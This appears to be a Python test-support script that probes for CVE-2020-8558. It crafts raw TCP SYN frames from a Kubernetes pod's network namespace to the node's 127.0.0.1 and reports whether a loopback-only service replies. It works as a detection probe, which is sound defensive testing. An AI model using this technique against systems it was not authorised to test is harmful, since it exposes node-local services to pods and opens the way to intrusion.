"""CVE-2020-8558 probe: from a pod's netns, a hand-made TCP SYN to the node's 127.0.0.1.

A process with CAP_NET_RAW in a pod can write Ethernet frames of its own: a frame to the
bridge's MAC whose IP destination is 127.0.0.1. The node accepts it as local when
``route_localnet`` is on for the bridge (set for hostPort DNAT from 127.0.0.1), and the
node's loopback-only services answer the pod. Run as an agent, in a fresh process::

    python -m tests.support.rawsyn NETNS IFNAME GATEWAY_MAC SRC_IP DST_IP DPORT

It setns()es into NETNS, sends a SYN (three tries, a second apart) out of IFNAME and prints
``synack`` (exit 0) when the SYN-ACK comes back, ``none`` (exit 1) when nothing does.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_frame(dst_mac: bytes, src_mac: bytes, src_ip: str, dst_ip: str, sport: int, dport: int, seq: int) -> bytes:
    """Ethernet + IPv4 + TCP SYN, checksums filled in."""
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(0, 0xFFFF), 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp


def is_synack(frame: bytes, dst_ip: str, dport: int, sport: int, seq: int) -> bool:
    if len(frame) < 54 or frame[12:14] != struct.pack("!H", ETH_P_IP):
        return False
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != socket.IPPROTO_TCP or ip[12:16] != socket.inet_aton(dst_ip):
        return False
    src_port, dst_port, _seq, ack, _off, flags = struct.unpack("!HHIIBB", ip[ihl : ihl + 14])
    return src_port == dport and dst_port == sport and flags & 0x12 == 0x12 and ack == seq + 1


def probe(ifname: str, gateway_mac: str, src_ip: str, dst_ip: str, dport: int) -> bool:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    with sock:
        sock.bind((ifname, ETH_P_IP))
        src_mac = sock.getsockname()[4]
        sport, seq = random.randint(33000, 60000), random.randint(0, 2**31)
        frame = syn_frame(bytes.fromhex(gateway_mac.replace(":", "")), src_mac, src_ip, dst_ip, sport, dport, seq)
        for _ in range(3):
            sock.send(frame)
            deadline = time.monotonic() + 1.0
            while (left := deadline - time.monotonic()) > 0:
                sock.settimeout(left)
                try:
                    got = sock.recv(2048)
                except TimeoutError:
                    break
                if is_synack(got, dst_ip, dport, sport, seq):
                    return True
    return False


def main(argv: list[str]) -> int:
    netns, ifname, gateway_mac, src_ip, dst_ip, dport = argv
    from runtime.linux import libc

    libc.setns_path(netns, libc.CLONE_NEWNET)
    answered = probe(ifname, gateway_mac, src_ip, dst_ip, int(dport))
    print("synack" if answered else "none", flush=True)
    return 0 if answered else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
